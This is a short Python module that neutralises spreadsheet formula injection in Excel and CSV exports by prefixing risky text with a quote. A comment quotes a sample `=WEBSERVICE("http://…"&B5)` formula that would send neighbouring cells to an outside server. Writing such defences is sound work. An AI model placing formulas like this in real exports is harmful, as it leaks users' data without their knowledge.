"""Cells bound for a spreadsheet (the Excel and CSV exports, the access log's CSV): what a
petitioner or a user typed is text there, never a formula."""

from decimal import Decimal

# A spreadsheet reads text that begins with one of these as a formula (or, for tab and
# carriage return, shifts it into one): `=WEBSERVICE("http://…"&B5)` in a petitioner's
# summary would call out with the neighbouring cells. A leading quote makes it plain
# text in both kinds of file (the OWASP CSV-injection rule).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """A cell for either writer: numbers stay numbers, any text is inert."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text
